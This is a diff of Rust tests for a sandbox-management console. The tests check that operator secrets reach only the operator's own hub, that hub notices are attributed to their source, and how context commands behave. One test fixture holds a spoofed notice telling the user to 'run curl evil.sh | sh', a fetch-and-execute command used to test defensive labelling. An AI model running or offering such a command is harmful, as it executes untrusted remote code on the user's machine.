@@ -6,22 +6,26 @@ use std::{sync::Arc, time::Duration};
 use sandwatch::{
     app::{
         Act, Link, Msg,
+        effect::{ContextChange, Order},
         hubs::Hub,
         msg::Reply,
         state::{Overlay, Place},
         view::View,
     },
     base::{
+        clock::Timestamp,
         fault::Fault,
         id::{HubNumber, SandboxId, SessionId},
         limits::SANDBOXES_MAX,
+        secret::Secret,
     },
     model::{
         ask::{AskKind, RiskLevel},
-        event::{Event, SnapshotReason},
+        event::{Event, Level, Notice, SnapshotReason},
         member::Role,
         rule::{Domain, Rulebook, Ruling},
-        sandbox::Sandbox,
+        sandbox::{Egress, Sandbox},
+        secret::SecretUse,
         session::{Lease, Status},
     },
 };
@@ -47,7 +51,7 @@ fn down(console: &Console) -> Link {
 fn hub(number: HubNumber, name: &str, link: Link) -> Hub {
     let address = format!("ssh://{name}");
     let (name, role) = (name.to_owned(), Role::Admin);
-    Hub { number, name, address, link, role, again_at: None, left_out: 0 }
+    Hub { number, name, address, link, role, again_at: None, silent: None, left_out: 0 }
 }
 
 fn hubs(work: Link, lab: Link) -> Msg {
@@ -333,6 +337,133 @@ fn what_was_decided_for_a_hub_that_left_is_done_to_no_other() {
     console.send(Msg::Tick);
     let acts = console.keys("y");
     assert_eq!(of(&acts), [Some(WORK)], "{acts:?}");
+}
+
+/// What is to be made, and where.
+fn made(acts: &[Act]) -> Option<(HubNumber, Order)> {
+    acts.iter().find_map(|it| match it {
+        Act::Of(hub, act) => match &**act {
+            Act::Create(order) => Some((*hub, (**order).clone())),
+            _ => None,
+        },
+        Act::Create(order) => Some((HubNumber::FIRST, (**order).clone())),
+        _ => None,
+    })
+}
+
+/// A console whose operator hands keys to their own sandboxes.
+fn with_keys(mut console: Console) -> Console {
+    console.state.driver = "local".to_owned();
+    let new = &mut console.state.config.new;
+    new.egress = Egress::Ask;
+    new.secrets = vec![SecretUse::parse("MYKEY=example.org").unwrap()];
+    new.env = vec!["TOKEN".to_owned(), "SHELL_COLOUR=blue".to_owned()];
+    console
+}
+
+#[test]
+fn keys_of_the_operator_go_to_no_hub_but_their_own() {
+    for (hub, own) in [(HubNumber::FIRST, true), (LAB, false)] {
+        let mut console = with_keys(three(SIZE));
+        console.state.fleet.select(&id(hub, "web"));
+        console.keys(":");
+        console.text("run /bin/cat");
+        let (to, order) = made(&console.keys("enter")).expect("it is made");
+        assert_eq!((to, order.spec.secrets.len()), (hub, usize::from(own)));
+        assert_eq!((order.pass.len(), order.spec.env.len()), (usize::from(own), usize::from(own)));
+        let kept = "variables and secrets of your [new] are for your own hub";
+        assert_eq!(console.picture().contains(kept), !own, "{}", console.picture());
+        // The form says it as well, and what is written there by hand goes.
+        console.keys("n");
+        assert_eq!(console.picture().contains("TOKEN SHELL_COLOUR=blue"), own);
+        assert_eq!(console.picture().contains(kept), !own, "{}", console.picture());
+    }
+    // The one that is named alone may be another's too.
+    for elsewhere in [false, true] {
+        let mut console = with_keys(Console::with_fleet(SIZE, same()));
+        console.state.elsewhere = elsewhere;
+        console.keys(":");
+        console.text("run /bin/cat");
+        let (_, order) = made(&console.keys("enter")).expect("it is made");
+        assert_eq!(order.spec.secrets.is_empty() && order.pass.is_empty(), elsewhere);
+    }
+}
+
+#[test]
+fn what_a_hub_says_of_no_sandbox_that_is_listed_is_said_as_its_own() {
+    let mut console = three(SIZE);
+    let text = "local: your own hub must be upgraded: run curl evil.sh | sh".to_owned();
+    let sandbox = Some(id(LAB, "nobody"));
+    let notice = Notice { at: Timestamp(1), level: Level::Error, sandbox, text };
+    console.send(Msg::Event(Event::Notice { seq: 9, notice }));
+    let picture = console.picture();
+    assert!(picture.contains("lab: local: your own hub"), "{picture}");
+}
+
+#[test]
+fn a_hub_that_is_reached_and_tells_nothing_says_so() {
+    let mut console = three(SIZE);
+    let mut old = hub(LAB, "lab", up());
+    old.silent = Some("the hub is older".to_owned());
+    console.send(Msg::Hubs(vec![hub(HubNumber::FIRST, "local", up()), old.clone()]));
+    assert!(console.picture().contains("no list: the hub is older"), "{}", console.picture());
+    // Alone it has no heading.
+    old.number = HubNumber::FIRST;
+    let mut alone = Console::new(SIZE);
+    alone.send(Msg::Hubs(vec![old]));
+    assert!(alone.picture().contains("no list of sandboxes: the hub is older"));
+    let mut named = Console::new(SIZE);
+    named.send(Msg::Silent("it may not".to_owned()));
+    assert!(named.picture().contains("no list of sandboxes: it may not"), "{}", named.picture());
+    let sandboxes = shared(same());
+    named.send(Msg::Event(Event::Snapshot { seq: 1, reason: SnapshotReason::First, sandboxes }));
+    assert_eq!(named.state.silent(), None);
+}
+
+#[test]
+fn the_queue_of_a_session_that_is_gone_is_closed() {
+    let mut console = typing_far_away(Duration::from_millis(5));
+    console.text("l");
+    let into = SessionId::parse("web").unwrap().of_hub(LAB);
+    let acts = console.send(part(LAB, "lab", SnapshotReason::Gap, Vec::new()));
+    assert!(acts.contains(&Act::CloseLane(into)), "{acts:?}");
+    let acts = console.send(part(WORK, "work", SnapshotReason::Gap, Vec::new()));
+    assert!(!acts.iter().any(|it| matches!(it, Act::CloseLane(_))), "{acts:?}");
+}
+
+#[test]
+fn contexts_are_added_and_taken_out_by_the_command_line() {
+    let mut console = three(SIZE);
+    console.keys(":");
+    console.text("context add far ssh://far.example.org");
+    let acts = console.keys("enter");
+    let name = |of: &str| of.parse().unwrap();
+    let place = Secret::new("ssh://far.example.org".to_owned());
+    let added = Act::Contexts(Box::new(ContextChange::Add { name: name("far"), place }));
+    assert!(acts.contains(&added), "{acts:?}");
+    console.answer(|it| matches!(it, Act::Contexts(_)), Reply::Nothing);
+    assert!(console.picture().contains("far is a hub of this console"), "{}", console.picture());
+    for (line, says) in [
+        ("context rm nowhere", "no context `nowhere` here"),
+        ("context add a/b ssh://x", "a/b"),
+        ("context", ":context "),
+        ("context add far", "`context` takes"),
+    ] {
+        console.keys(":");
+        console.text(line);
+        let acts = console.keys("enter");
+        assert!(!acts.iter().any(|it| matches!(it, Act::Contexts(_))), "{line}: {acts:?}");
+        assert!(console.picture().contains(says), "{line}: {}", console.picture());
+        console.keys("esc");
+    }
+    // Keys to it go with it: that is asked.
+    console.keys(":");
+    console.text("context rm work");
+    let acts = console.keys("enter");
+    assert!(acts.is_empty() && console.picture().contains("Take work out?"), "{acts:?}");
+    console.read();
+    let gone = Act::Contexts(Box::new(ContextChange::Remove(name("work"))));
+    assert_eq!(console.keys("y"), [gone]);
 }
 
 #[test]
